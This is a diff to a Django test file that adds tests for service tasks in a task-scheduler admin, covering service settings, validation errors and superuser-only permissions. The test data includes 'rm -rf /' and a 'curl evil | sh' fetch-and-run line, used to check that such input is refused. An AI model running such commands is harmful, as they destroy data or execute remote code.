@@ -14,7 +14,7 @@ from tasks_app import services
 from tasks_app.definitions.validate import build_definition
 from tasks_app.models import Event, Run, RunStatus, Task, TaskKind
 
-from ..factories import make_run, make_task, number, string
+from ..factories import make_run, make_service, make_task, number, string
 from .conftest import staff_client
 
 pytestmark = pytest.mark.django_db
@@ -320,7 +320,7 @@ def test_argv_runs_without_the_shell_offered(root_client):
     ({"command": "true", "supports_cancel": ""}, "supports_cancel", "can always be cancelled"),
     ({"command": "true", "parameters": '[{"key": "--x", "kind": "env"}]'}, "parameters", "variable name"),
     ({"kind": "python", "callable": "tests.sample_tasks.noop", "command": "rm -rf /"}, "command",
-     "Only a command task runs a command."),
+     "Only a command or service task runs a command."),
 ])
 def test_bad_process_settings_are_errors_on_their_fields_and_save_nothing(root_client, fields, field, words):
     page = root_client.post("/admin/tasks_app/task/add/", add_form(**fields)).content.decode()
@@ -381,3 +381,168 @@ def test_only_superusers_add_or_change_command_tasks():
     response = operator.post("/admin/tasks_app/task/backup/change/", {**add_form(command="curl evil | sh")})
     assert response.status_code == 403
     assert Task.objects.get(pk="backup").process == before and not Task.objects.filter(pk="mine").exists()
+
+
+# --- Service tasks: their service settings too, by superusers only ------------------------------------
+
+
+def service_form(**fields):
+    """What the add page posts for a new service: no schedule, Manual run unticked, the service
+    fields as offered."""
+    form = add_form(id="web", kind="service", interval="", interval_unit="", command="python3 -m http.server 8765",
+                    instances="1", autostart="True", restart="on_failure", restart_backoff="exponential",
+                    restart_delay="1", start_retries="3", healthy_after="10", depends_on="", priority="0",
+                    health_check="")
+    del form["manual_run"]
+    return {**form, **fields}
+
+
+def test_a_superuser_adds_and_edits_a_service_with_its_settings(root_client):
+    make_service(id="db", process={"argv": ["postgres"]})
+    page = root_client.get("/admin/tasks_app/task/add/").content.decode()
+    assert 'class="fieldset-heading">Service</h2>' in page and 'name="instances"' in page and "untick Manual run" in page
+    assert '<option value="on_failure" selected>' in page and '<option value="True" selected>Yes</option>' in page
+
+    response = root_client.post("/admin/tasks_app/task/add/", service_form(
+        instances="3", autostart="False", restart="always", restart_delay="0.5", depends_on='["db"]', priority="-1",
+        health_check='{"http": "http://127.0.0.1:8765/", "interval": 10}', stop_signal="SIGINT", timeout="0"))
+
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    task = Task.objects.get(pk="web")
+    assert task.process == {
+        "command": "python3 -m http.server 8765", "argv": None, "shell": "/bin/sh", "working_dir": "", "user": "",
+        "umask": "", "env": {}, "env_file": "", "secrets_file": "", "exit_codes": [0], "stop_signal": "SIGINT",
+        "graceful_stop": 5, "log_max_size": task.process["log_max_size"], "log_on_full": "drop_old",
+        "instances": 3, "autostart": False, "restart": "always", "restart_backoff": "exponential",
+        "restart_delay": 0.5, "start_retries": 3, "healthy_after": 10, "depends_on": ["db"], "priority": -1,
+        "health_check": {"http": "http://127.0.0.1:8765/", "interval": 10, "timeout": 5, "retries": 3},
+        "compose": None,
+    }
+    assert (task.kind, task.source, task.manual_run, task.timeout, task.supports_cancel) == ("service", "admin", False,
+                                                                                             None, True)
+    assert task.next_run_at is None
+
+    Event.objects.all().delete()
+    form = FormValues(root_client.get("/admin/tasks_app/task/web/change/").content.decode()).values
+    assert (form["instances"], form["autostart"], form["depends_on"], form["restart"]) == ("3", "False", '["db"]',
+                                                                                          "always")
+    response = root_client.post("/admin/tasks_app/task/web/change/", {**form, "instances": "2", "health_check": ""})
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    task.refresh_from_db()
+    assert (task.process["instances"], task.process["health_check"], task.process["restart"]) == (2, None, "always")
+    assert Event.objects.get(name="task:updated").data["message"] == "Changed: process"
+
+
+def test_an_imported_services_compose_provenance_survives_an_edit(root_client):
+    compose = {"file": "docker-compose.yml", "project_name": "media", "service": "web"}
+    make_service(id="media_web", process={"command": "docker compose run web", "compose": compose})
+    form = FormValues(root_client.get("/admin/tasks_app/task/media_5Fweb/change/").content.decode()).values
+    assert "compose" not in form  # only the importers write it
+    response = root_client.post("/admin/tasks_app/task/media_5Fweb/change/", {**form, "instances": "4"})
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    process = Task.objects.get(pk="media_web").process
+    assert (process["instances"], process["compose"]) == (4, compose)
+
+
+NO_SCHEDULE = "A service has no schedule: its supervisor keeps it running."
+
+
+@pytest.mark.parametrize(("fields", "field", "words"), [
+    ({"instances": "0"}, "instances", "greater than or equal to 1"),
+    ({"instances": "65"}, "instances", "less than or equal to 64"),
+    ({"autostart": "maybe"}, "autostart", "Select a valid choice."),
+    ({"restart": "unless-stopped"}, "restart", "Select a valid choice."),
+    ({"restart_delay": "-1"}, "restart_delay", "greater than or equal to 0"),
+    ({"depends_on": '"db"'}, "depends_on", "Must be a list of service ids, like [&quot;database&quot;]."),
+    ({"depends_on": '["web"]'}, "depends_on", "A service cannot depend on itself."),
+    ({"depends_on": '["nope"]'}, "depends_on", "Unknown task &#x27;nope&#x27;."),
+    ({"depends_on": '["report"]'}, "depends_on", "&#x27;report&#x27; is a python task, not a service."),
+    ({"depends_on": '["db"]'}, "depends_on", "Forms a cycle: web -&gt; db -&gt; web."),
+    ({"health_check": '{"interval": 5}'}, "health_check", "Needs command (shell text) or http (a URL)."),
+    ({"health_check": '{"http": "ftp://x/"}'}, "health_check", "Http: &#x27;ftp://x/&#x27; is not an http:// or"),
+    ({"health_check": '{"command": "true", "retries": 0}'}, "health_check", "Retries: must be a whole number &gt;= 1."),
+    ({"health_check": '["curl"]'}, "health_check", "Must be a table, like"),
+    ({"command": "", "argv": ""}, "command", "Is required"),
+    ({"cron_string": "* * * * *"}, "cron_string", NO_SCHEDULE),
+    ({"interval": "5", "interval_unit": "minutes"}, "interval", NO_SCHEDULE),
+    ({"timezone": "Europe/Paris"}, "timezone", NO_SCHEDULE),
+    ({"manual_run": "on"}, "manual_run", "A service is not run on demand: it is started, stopped and restarted."),
+    ({"run_on_start": "on"}, "run_on_start", "A service starts with autostart, not run_on_start."),
+    ({"timeout": "3600"}, "timeout", "A service runs until it is stopped: it has no timeout."),
+    ({"retry_attempts": "2"}, "retry_attempts", "A service is restarted (restart, restart_backoff, restart_delay)"),
+    ({"on_overlap": "queue"}, "on_overlap", "never skipped, queued or terminated."),
+    ({"max_concurrent": "3"}, "max_concurrent", "A service runs as many processes as its instances."),
+    ({"supports_dry_run": "on"}, "supports_dry_run", "A service cannot be told it is a dry run."),
+    ({"supports_cancel": ""}, "supports_cancel", "A service&#x27;s runs can always be stopped."),
+    ({"parameters": '[{"key": "PORT", "kind": "env"}]'}, "parameters", "The supervisor starts a service without"),
+    ({"callable": "tests.sample_tasks.noop"}, "callable", "A service runs command or argv, not a callable."),
+])
+def test_bad_service_settings_are_errors_on_their_fields_and_save_nothing(root_client, fields, field, words):
+    make_task(id="report")
+    make_service(id="db", process={"argv": ["postgres"], "depends_on": ["web"]})  # web -> db -> web
+    page = root_client.post("/admin/tasks_app/task/add/", service_form(**fields)).content.decode()
+    errors = errors_by_field(page)
+    assert words in errors.get(field, ""), errors
+    assert not Task.objects.filter(pk="web").exists()
+
+
+@pytest.mark.parametrize(("fields", "field"), [
+    ({"instances": "3"}, "instances"), ({"depends_on": '["db"]'}, "depends_on"), ({"autostart": "False"}, "autostart"),
+    ({"health_check": '{"command": "true"}'}, "health_check"), ({"restart": "never"}, "restart"),
+])
+def test_a_command_task_with_a_service_setting_is_refused(root_client, fields, field):
+    page = root_client.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv", **fields)).content.decode()
+    assert errors_by_field(page).get(field) == "Applies to service tasks only."
+    assert not Task.objects.filter(pk="backup").exists()
+    as_offered = {"instances": "1", "autostart": "True", "restart": "on_failure", "depends_on": "", "priority": "0"}
+    assert root_client.post("/admin/tasks_app/task/add/", add_form(command="du", **as_offered)).status_code == 302
+
+
+def test_a_declared_service_shows_its_settings_and_takes_no_schedule(root_client):
+    definition = build_definition("heartbeat_service", {
+        "kind": "service", "argv": ["python3", "-m", "http.server", "8765"], "depends_on": [],
+        "health_check": {"http": "http://127.0.0.1:8765/"}}, source="file")
+    services.sync_definitions([definition])
+
+    page = root_client.get("/admin/tasks_app/task/heartbeat_5Fservice/change/").content.decode()
+
+    editable = set(re.findall(r'<(?:input|select|textarea)[^>]* name="(\w+)"', page)) - {"csrfmiddlewaretoken"}
+    assert editable - {"_save", "_continue", "_addanother"} == {"enabled", "interval", "interval_unit", "cron_string",
+                                                                "timezone"}
+    assert "<th>instances</th><td><code>1</code></td>" in page and "<th>restart</th><td><code>on_failure</code>" in page
+    assert "&quot;http&quot;: &quot;http://127.0.0.1:8765/&quot;" in page
+    form = FormValues(page).values
+    for change, field in (({"cron_string": "*/5 * * * *"}, "cron_string"),
+                          ({"interval": "5", "interval_unit": "minutes"}, "interval")):
+        response = root_client.post("/admin/tasks_app/task/heartbeat_5Fservice/change/", {**form, **change})
+        assert errors_by_field(response.content.decode()).get(field) == NO_SCHEDULE
+    task = Task.objects.get(pk="heartbeat_service")
+    assert (task.cron_string, task.interval, task.next_run_at, task.overrides) == ("", None, None, [])
+    response = root_client.post("/admin/tasks_app/task/heartbeat_5Fservice/change/", {**form, "enabled": ""})
+    assert response.status_code == 302 and not Task.objects.get(pk="heartbeat_service").enabled  # that it may change
+
+
+def test_only_superusers_add_or_change_service_tasks():
+    root = Client()
+    root.force_login(User.objects.create_superuser("root", password="x"))
+    assert root.post("/admin/tasks_app/task/add/", service_form()).status_code == 302
+    before = Task.objects.get(pk="web").process
+    operator = staff_client("view_task", "add_task", "change_task", "run_task", "manage_task", username="operator")
+
+    assert operator.post("/admin/tasks_app/task/add/", service_form(id="mine")).status_code == 403
+    page = operator.get("/admin/tasks_app/task/web/change/")
+    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
+    assert "<th>instances</th><td><code>1</code></td>" in page.content.decode()  # shown, read-only
+    response = operator.post("/admin/tasks_app/task/web/change/", service_form(command="curl evil | sh", instances="9"))
+    assert response.status_code == 403
+    assert Task.objects.get(pk="web").process == before and not Task.objects.filter(pk="mine").exists()
+
+
+def test_running_a_service_from_the_admin_says_to_restart_it(root_client):
+    make_service(id="web")
+    page = root_client.post("/admin/tasks_app/task/web/run/", {}).content.decode()
+    assert "Task &#x27;web&#x27; is a service, kept running by its supervisor: restart it, do not run it." in page
+    response = root_client.post("/admin/tasks_app/task/", {"action": "run_now", "_selected_action": ["web"]},
+                                follow=True)
+    assert "restart it, do not run it." in response.content.decode()
+    assert not Run.objects.exists()
